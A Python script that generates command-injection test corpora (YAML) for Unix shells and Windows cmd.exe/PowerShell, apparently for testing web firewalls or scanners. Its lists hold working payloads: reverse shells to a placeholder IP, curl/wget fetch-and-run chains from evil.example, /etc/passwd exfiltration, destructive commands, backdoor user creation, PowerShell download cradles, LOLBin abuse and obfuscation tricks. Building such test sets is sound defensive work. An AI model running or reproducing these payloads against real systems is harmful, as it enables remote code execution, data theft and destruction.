"""Remote command execution: unix shells (``1050-rce-unix.yaml``) and Windows
cmd.exe / PowerShell (``1055-rce-windows.yaml``).

The payloads are what command-injection testers send into a parameter that
ends up in a shell: the expected value (an IP, a host name, a file name) or
nothing, then a separator or a substitution, then a command, with the usual
evasions (quotes and backslashes inside words, ``$IFS``, globs, brace
expansion, variables, carets, ``%COMSPEC%``), download-and-run chains and
reverse shells. Each payload goes into a few placements in turn (the
parameters are named as in the tools these attacks target: ping and DNS
checkers, converters, file viewers), some also double URL-encoded or as
``%uXXXX``; Windows payloads also in mixed case, which cmd.exe and
PowerShell ignore.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import Any

from common import (
    Placement,
    in_cookie,
    in_form,
    in_header,
    in_json,
    in_multipart,
    in_query,
    in_xml,
    write,
)
from common import spread as common_spread

# Placements named for the corpus tags; the parameters are the ones
# command-injection targets usually have.
UNIX_PLACES: dict[str, tuple[str, Placement]] = {
    "query": ("query", in_query("ip", "/tools/ping")),
    "query-host": ("query", in_query("host", "/cgi-bin/nslookup.cgi")),
    "form": ("form", in_form("target", "/admin/diagnostics")),
    "form-file": ("form", in_form("filename", "/convert")),
    "json": ("json", in_json("hostname", "/api/v1/network/check")),
    "xml": ("xml", in_xml("host", "/api/v1/monitor")),
    "multipart": ("multipart", in_multipart("name", "/upload")),
    "cookie": ("cookie", in_cookie("lang", "/dashboard")),
    "referer": ("header", in_header("Referer", "/")),
    "user-agent": ("header", in_header("User-Agent", "/cgi-bin/status")),
}


def spread(payloads: Sequence[str], family: str, rotation: Sequence[str], per: int,
           encodings: Sequence[str] = ("plain",), start: int = 0) -> list[dict[str, Any]]:
    return common_spread(payloads, rotation, per, places=UNIX_PLACES, family=family,
                         encodings=encodings, start=start)


# ------------------------------------------------------------------ unix

# A separator, then a command: the bulk of real command-injection traffic.
UNIX_BASIC = [
    ";id",
    "|id",
    "||id",
    "&&id",
    "&id&",
    "\nid",
    "127.0.0.1;id",
    "127.0.0.1 | id",
    "127.0.0.1 && whoami",
    "127.0.0.1 || whoami",
    "8.8.8.8;uname -a",
    "example.com; cat /etc/passwd",
    "example.com|cat /etc/passwd",
    "localhost && ls -la /",
    "test.txt; ls -la",
    "report.pdf | head -n 20 /etc/passwd",
    "1;sleep 10",
    "1|sleep 5",
    "1 && sleep 7 #",
    ";ping -c 10 127.0.0.1",
    "| ping -c 3 attacker.example.net",
    "127.0.0.1\nwhoami",
    "127.0.0.1\r\nid",
    "`id`",
    "`whoami`",
    "$(id)",
    "$(whoami)",
    "127.0.0.1`uname -a`",
    "127.0.0.1$(cat /etc/passwd)",
    "x$(sleep 5)",
    ";echo vulnerable",
    ";echo $((31337*7))",
    ";printenv",
    ";env",
    ";ps aux",
    ";netstat -an",
    ";ifconfig",
    "| hostname",
    ";pwd",
    "&& cat /proc/self/environ",
    "; uname -a #",
    ";/usr/bin/id",
    "|/bin/ls -al",
    ";tail -n 10 /etc/passwd",
    ";more /etc/shadow",
    "a.png; rm -rf /var/www/html/uploads",
    "1; kill -9 -1",
    "google.com;find / -perm -4000 -type f",
    "x;chmod 777 /tmp/x",
    "127.0.0.1; getent passwd",
]

# Fetch and run.
UNIX_DOWNLOAD = [
    ";wget http://203.0.113.7/x.sh -O /tmp/x.sh",
    ";curl -s http://evil.example/s.sh | sh",
    "|curl http://evil.example/shell.sh|bash",
    "; wget -qO- http://evil.example/p | sh",
    "&& curl -o /tmp/b http://evil.example/b && chmod +x /tmp/b && /tmp/b",
    ";cd /tmp && wget http://198.51.100.9/bot && chmod 777 bot && ./bot",
    "$(curl http://evil.example/$(whoami))",
    "`wget http://evil.example/x -O- | sh`",
    ";tftp -g -r x.sh 203.0.113.7",
    ";nslookup `whoami`.attacker.example.net",
    "|dig $(id -u).oast.example",
    "127.0.0.1;curl -d @/etc/passwd http://evil.example/collect",
    ";lwp-download http://evil.example/x.pl /tmp/x.pl",
]

# Reverse and bind shells.
UNIX_SHELLS = [
    ";bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ";/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
    "|nc -e /bin/sh 203.0.113.7 4444",
    ";nc 203.0.113.7 4444 -e /bin/bash",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    (";python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
     "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ";python3 -c 'import os;os.system(\"id\")'",
    (";perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
     "getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'"),
    ";php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.7\",4444);exec \"/bin/sh -i\"'",
    ";socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr",
    ";exec 5<>/dev/tcp/203.0.113.7/80;cat <&5 | while read line; do $line 2>&5 >&5; done",
    ";node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 203.0.113.7 4444\")'",
    ";xterm -display 203.0.113.7:1",
    ";telnet 203.0.113.7 4444 | /bin/bash | telnet 203.0.113.7 4445",
    "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
    ";lua -e \"os.execute('id')\"",
    ";awk 'BEGIN {system(\"/bin/sh -i\")}'",
    ";/bin/busybox nc 203.0.113.7 4444 -e sh",
    "; sh -i >& /dev/udp/203.0.113.7/4444 0>&1",
    "a|ncat 203.0.113.7 4444 -e /bin/bash",
]

# Evasions: quotes and backslashes in words, $IFS, globs, braces, variables.
UNIX_EVASION = [
    ";c''at /etc/passwd",
    ";c\"\"at /e\"\"tc/pa\"\"sswd",
    ";c\\at /et\\c/pas\\swd",
    ";w'h'o'am'i",
    ";wh''oami",
    "|who$@ami",
    ";wh$()oami",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS/etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat</etc/passwd",
    ";/???/c?t /???/p??s??",
    ";/bin/c?t /etc/pas*wd",
    ";{ls,-la,/}",
    ";{echo,aWQ=}|{base64,-d}|{bash,-i}",
    ";a=c;b=at;$a$b /etc/passwd",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    ";uname${IFS}-a",
    ";sleep${IFS}10",
    "\ncat${IFS}/etc/passwd",
    ";ca\\t${IFS}/e\\tc/pa\\ss\\wd",
    ";`echo d2hvYW1p|base64 -d`",
    "|echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";bash<<<$(base64 -d<<<aWQ=)",
    ";{wget,http://evil.example/x}",
    ";cat /e?c/p?ss??",
    ";$(printf '\\x69\\x64')",
    "127.0.0.1%0acat%09/etc/passwd",
    ";i\\d",
    ";u'n'a'm'e -a",
]

# Shellshock: a function definition in a header, then a command.
SHELLSHOCK = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { ignored; }; /bin/sleep 5",
    "() { :; }; wget http://evil.example/x -O /tmp/x",
]

# Injected after a longer value: the separator is not at the start.
UNIX_LATE = [
    "backup of site; nc 203.0.113.7 4444 -e /bin/sh",
    "my notes.txt && curl http://evil.example/x.sh | bash",
    "hello world; bash -i >& /dev/tcp/203.0.113.7/9001 0>&1",
    "weekly report | wget -q -O - http://evil.example/p.sh | sh",
]

UNIX_ROTATION = ["query", "form", "json", "query-host", "cookie", "xml", "form-file",
                 "multipart", "json", "referer"]


def unix_tests() -> list[dict[str, Any]]:
    family = "rce-unix"
    tests: list[dict[str, Any]] = []
    tests += spread(UNIX_BASIC, family, UNIX_ROTATION, per=2)
    tests += spread(UNIX_DOWNLOAD, family, UNIX_ROTATION, per=2, start=3)
    tests += spread(UNIX_SHELLS, family, UNIX_ROTATION, per=2, start=5)
    tests += spread(UNIX_EVASION, family, UNIX_ROTATION, per=2, start=1)
    tests += spread(SHELLSHOCK, family, ["user-agent", "referer"], per=2)
    tests += spread(UNIX_LATE, family, ["form", "json"], per=1)
    # The server decodes twice, or takes IIS-style %uXXXX.
    encoded = [";id", "127.0.0.1 | whoami", ";cat /etc/passwd", "$(whoami)", "`id`",
               ";wget http://203.0.113.7/x.sh -O /tmp/x.sh", "|nc -e /bin/sh 203.0.113.7 4444",
               ";c''at${IFS}/etc/passwd", "\nuname -a", "&& sleep 10"]
    tests += spread(encoded, family, ["query", "form"], per=1, encodings=("double-url",))
    tests += spread(encoded[:6], family, ["query", "json"], per=1, encodings=("unicode-u",))
    tests += spread([";id", "|cat /etc/passwd"], family, ["form"], per=1,
                    encodings=("html-entity",))
    return tests


# --------------------------------------------------------------- windows

WIN_BASIC = [
    "& dir",
    "| dir c:\\",
    "&& dir C:\\Users",
    "127.0.0.1 & whoami",
    "127.0.0.1 | whoami /all",
    "127.0.0.1 && ipconfig /all",
    "& type C:\\Windows\\win.ini",
    "| type %SYSTEMROOT%\\win.ini",
    "& net user",
    "& net user hacker P@ssw0rd /add",
    "&& net localgroup administrators hacker /add",
    "| systeminfo",
    "& tasklist /v",
    "& netstat -ano",
    "& ver",
    "&& set",
    "| ping -n 10 127.0.0.1",
    "& timeout /t 5",
    "& cmd /c whoami",
    "| cmd.exe /c dir",
    "x & cmd /c \"type C:\\boot.ini\"",
    "& %COMSPEC% /c whoami",
    "& %COMSPEC% /k dir",
    "& C:\\Windows\\System32\\cmd.exe /c ver",
    "& findstr /si password *.config",
    "& vssadmin delete shadows /all /quiet",
    "& sc query",
    "& start /b calc.exe",
    "| nslookup attacker.example.net",
    "& del /f /q C:\\inetpub\\wwwroot\\index.html",
    "& copy \\\\203.0.113.7\\share\\nc.exe %TEMP%\\nc.exe",
    "&& echo %USERNAME%",
    "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    "& reg save HKLM\\SAM C:\\Temp\\sam.save",
    "& schtasks /create /sc minute /tn x /tr C:\\x.exe",
    "& wmic process call create \"cmd.exe /c calc.exe\"",
    "& wmic os get caption",
]

WIN_POWERSHELL = [
    ("& powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBl"
     "AG4AdApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvAGUAdgBpAGwAJwApAA=="),
    ("| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient)"
     ".DownloadString('http://evil.example/a.ps1')\""),
    "& powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.7\\share\\a.ps1",
    ("; powershell -c \"Invoke-WebRequest -Uri http://evil.example/x.exe "
     "-OutFile $env:TEMP\\x.exe\""),
    "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')",
    "iex (iwr http://evil.example/a.ps1 -UseBasicParsing)",
    "powershell -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==",
    "& pwsh -NoProfile -Command \"Start-Process cmd -ArgumentList '/c whoami'\"",
    ("& powershell [System.Text.Encoding]::UTF8.GetString([System.Convert]::"
     "FromBase64String('d2hvYW1p'))"),
    "| powershell Get-Content C:\\Windows\\win.ini",
]

WIN_LOLBINS = [
    "& certutil -urlcache -split -f http://evil.example/x.exe %TEMP%\\x.exe",
    "& certutil.exe -decode payload.b64 payload.exe",
    ("| bitsadmin /transfer job /download /priority high http://evil.example/x.exe "
     "C:\\Users\\Public\\x.exe"),
    "& mshta http://evil.example/x.hta",
    "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
    "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
    "& cscript //nologo \\\\203.0.113.7\\share\\x.vbs",
    "& msiexec /q /i http://evil.example/x.msi",
]

WIN_EVASION = [
    "& c^m^d /c w^h^o^a^m^i",
    "& p^o^w^e^r^s^h^e^l^l -c whoami",
    "& w\"h\"o\"a\"m\"i",
    "| who^ami",
    "& cmd /v:on /c \"set x=whoami&&!x!\"",
    "& set a=who&& set b=ami&& call %a%%b%",
    "& %COMSPEC:~0,1%%COMSPEC:~-16,1%%COMSPEC:~-1%",
    "& cmd /c \"di^r C:\\\"",
    "& ^n^e^t u^s^e^r",
    "&& %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c whoami",
]

WIN_ROTATION = ["query", "form", "json", "query-host", "xml", "cookie", "form-file", "multipart"]


def windows_tests() -> list[dict[str, Any]]:
    family = "rce-windows"
    tests: list[dict[str, Any]] = []
    tests += spread(WIN_BASIC, family, WIN_ROTATION, per=1)
    tests += spread(WIN_POWERSHELL, family, WIN_ROTATION, per=2, start=2)
    tests += spread(WIN_LOLBINS, family, WIN_ROTATION, per=2, start=4)
    tests += spread(WIN_EVASION, family, WIN_ROTATION, per=2, start=1)
    # cmd.exe and PowerShell ignore case.
    tests += spread(["& WhOaMi", "| DiR C:\\", "& NeT UsEr", "& Type C:\\Windows\\Win.ini",
                     "& POWERSHELL -ENC SQBFAFgA", "& CeRtUtIl -URLcache -f http://evil.example/x",
                     "| IPCONFIG /ALL", "& SystemInfo"],
                    family, ["query", "form", "json"], per=1, encodings=("mixed-case",))
    tests += spread(["& whoami", "| type C:\\boot.ini", "& powershell -enc SQBFAFgA",
                     "& net user"], family, ["query", "form"], per=1, encodings=("double-url",))
    tests += spread(["& dir", "| whoami", "& cmd /c ver"], family, ["query"], per=1,
                    encodings=("unicode-u",))
    return tests


def main() -> None:
    write("attacks/1050-rce-unix.yaml", 1050000,
          "Unix shell command injection: separators, substitutions, evasions, shells",
          unix_tests())
    write("attacks/1055-rce-windows.yaml", 1055000,
          "Windows command injection: cmd.exe, PowerShell, LOLBins, caret and quote evasion",
          windows_tests())


if __name__ == "__main__":
    main()
